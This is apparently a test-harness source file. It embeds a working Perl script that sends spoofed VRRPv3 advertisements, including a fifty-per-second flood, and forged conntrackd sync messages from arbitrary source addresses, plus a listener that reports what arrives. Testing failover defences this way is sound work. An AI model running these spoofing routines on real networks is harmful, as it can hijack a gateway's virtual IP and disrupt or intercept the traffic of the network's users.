/**
 * What an attacker on the link sends, in Perl, which every Debian has: adverts and sync with any source address;
 * and a listener that prints a line for each that arrives, until a datagram to port 9 ends it.
 *   perl - advert FROM TO TTL ROUTER-ID PRIORITY
 *   perl - adverts FROM TO TTL ROUTER-ID PRIORITY VIRTUAL-IP SECONDS    fifty a second
 *   perl - sync FROM TO
 *   perl - datagram TO PORT
 *   perl - listen
 */
export const attackScript = String.raw`use strict; use warnings; use Socket;
my ($kind, @args) = @ARGV;
sub checksum {
  my ($bytes) = @_;
  $bytes .= "\0" if length($bytes) % 2;
  my $sum = 0;
  $sum += $_ for unpack('n*', $bytes);
  $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
  return ~$sum & 0xffff;
}
sub out {
  my ($protocol, $ttl, $from, $to, $payload) = @_;
  socket(my $raw, AF_INET, SOCK_RAW, 255) or die "no raw socket: $!";
  my $head = pack('CCnnnCCna4a4', 0x45, 0, 20 + length($payload), 0, 0, $ttl, $protocol, 0, $from, $to);
  send($raw, $head . $payload, 0, pack_sockaddr_in(0, $to)) or die "not sent: $!";
}
# VRRPv3, RFC 9568, 5.1
sub advert {
  my ($from, $to, $id, $priority, $vip) = @_;
  my $text = sub { pack('CCCCnna4', 0x31, $id, $priority, 1, 5, $_[0], inet_aton($vip)) };
  return $text->(checksum(pack('a4a4CCn', $from, $to, 0, 112, 12) . $text->(0)));
}
# A message of conntrackd that says "alive" (version 1, type 10), with a number that the other proxy reaches in eleven days.
my $message = pack('CCnN', 0x1a, 0x10, 8, time + 1_000_000);
if ($kind eq 'advert' || $kind eq 'adverts') {
  my ($from, $to, $ttl, $id, $priority, $vip, $seconds) = @args;
  ($from, $to) = (inet_aton($from), inet_aton($to));
  my $end = time + ($seconds || 0);
  do {
    out(112, $ttl, $from, $to, advert($from, $to, $id, $priority, $vip || '127.112.0.1'));
    select undef, undef, undef, 0.02 if $seconds;
  } while time < $end;
} elsif ($kind eq 'sync') {
  my ($from, $to) = map { inet_aton($_) } @args;
  out(17, 64, $from, $to, pack('nnnn', 40000, 3780, 8 + length($message), 0) . $message);
} elsif ($kind eq 'datagram') {
  socket(my $udp, AF_INET, SOCK_DGRAM, 17) or die $!;
  send($udp, $message, 0, pack_sockaddr_in($args[1], inet_aton($args[0]))) or die "not sent: $!";
  print "sent\n";
} elsif ($kind eq 'listen') {
  socket(my $adverts, AF_INET, SOCK_RAW, 112) or die $!;
  my ($sync, $end) = map {
    socket(my $udp, AF_INET, SOCK_DGRAM, 17) or die $!;
    bind($udp, pack_sockaddr_in($_, INADDR_ANY)) or die $!;
    $udp;
  } 3780, 9;
  $| = 1;
  print "ready\n";
  for (my $ended = 0; ;) {
    my $ready = '';
    vec($ready, fileno($_), 1) = 1 for $adverts, $sync, $end;
    select($ready, undef, undef, $ended ? 0 : 30) > 0 or last;
    for ([ $adverts, 'advert' ], [ $sync, 'sync' ], [ $end, '' ]) {
      my ($socket, $name) = @$_;
      next unless vec($ready, fileno($socket), 1);
      recv($socket, my $text, 2048, 0);
      if ($name) { print "$name\n" } else { $ended = 1 }
    }
  }
}
`;
